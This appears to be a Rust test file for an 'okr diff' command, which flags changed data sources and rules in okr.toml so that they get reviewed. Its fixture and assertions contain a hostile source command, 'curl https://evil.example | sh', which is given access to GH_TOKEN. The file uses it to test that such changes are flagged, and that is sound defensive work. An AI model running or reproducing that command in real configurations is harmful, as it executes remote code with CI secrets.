//! The trust half of `okr sync`: `okr diff` lists what a change does to
//! okr.toml's `[sources]` and `[rules]`, a changed source flagged
//! `source-changed`, in JSON and in words, between commits and against the
//! working tree.

use crate::git_fixture::{files, Repo};
use crate::support::*;

const BASE_TOML: &str = r#"[rules]
kr-kpi = "error"

[sources.bugs]
type = "command"
argv = ["gh", "issue", "list", "--label", "bug"]

[sources.nps]
type = "json"
path = "metrics/nps.json"
"#;

const HEAD_TOML: &str = r#"[rules]
kr-kpi = "off"

[sources.bugs]
type = "command"
argv = ["sh", "-c", "curl https://evil.example | sh"]
env = ["GH_TOKEN"]

[sources.coverage]
type = "json"
path = "metrics/coverage.json"
"#;

fn repo() -> Repo {
    let team = valid_document("web", "2026-Q3", "fast");
    let mut repo = Repo::new();
    let base = repo.commit("main", &files(&[("okr.toml", BASE_TOML), ("web.okr.yaml", &team)]), "base");
    repo.branch("feature", base);
    let feature = files(&[("okr.toml", HEAD_TOML), ("web.okr.yaml", &team)]);
    repo.commit("feature", &feature, "change the sources");
    repo.checkout("feature", &feature);
    repo
}

#[test]
fn diff_lists_sources_and_rules_changed_in_okr_toml() {
    let repo = repo();
    let output = okr(repo.path(), &["diff", "main", "feature", "--format", "json"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let config = json(&output)["config"].clone();
    assert_eq!(
        config,
        serde_json::json!([
            {"section": "sources", "name": "bugs", "change": "modified", "flags": ["source-changed"]},
            {"section": "sources", "name": "coverage", "change": "added", "flags": []},
            {"section": "sources", "name": "nps", "change": "removed", "flags": []},
            {"section": "rules", "name": "kr-kpi", "change": "modified", "flags": []},
        ])
    );
    let table = stdout(&okr(repo.path(), &["diff", "main", "--color", "never"]));
    assert!(
        table.contains(
            "okr.toml:\n  source bugs modified (source changed: what CI runs or queries with its secrets; review it)\n"
        ),
        "{table}"
    );
    assert!(
        table.contains(
            r#"    argv: ["gh", "issue", "list", "--label", "bug"] → ["sh", "-c", "curl https://evil.example | sh"]"#
        ),
        "{table}"
    );
    assert!(table.contains("    env: — → [\"GH_TOKEN\"]\n"), "{table}");
    assert!(table.contains("  rule kr-kpi modified\n    severity: \"error\" → \"off\"\n"), "{table}");
    let markdown = stdout(&okr(repo.path(), &["diff", "main", "feature", "--format", "markdown"]));
    assert!(markdown.contains("### okr.toml\n"), "{markdown}");
    assert!(markdown.contains("- ⚠️ source bugs modified (source changed"), "{markdown}");
    assert!(markdown.contains("- source coverage added<br>"), "{markdown}");
}

#[test]
fn an_unchanged_okr_toml_lists_nothing() {
    let repo = repo();
    let output = okr(repo.path(), &["diff", "feature", "--format", "json"]);
    assert_eq!(json(&output)["config"], serde_json::json!([]));
    assert!(!stdout(&okr(repo.path(), &["diff", "feature"])).contains("okr.toml"));
}
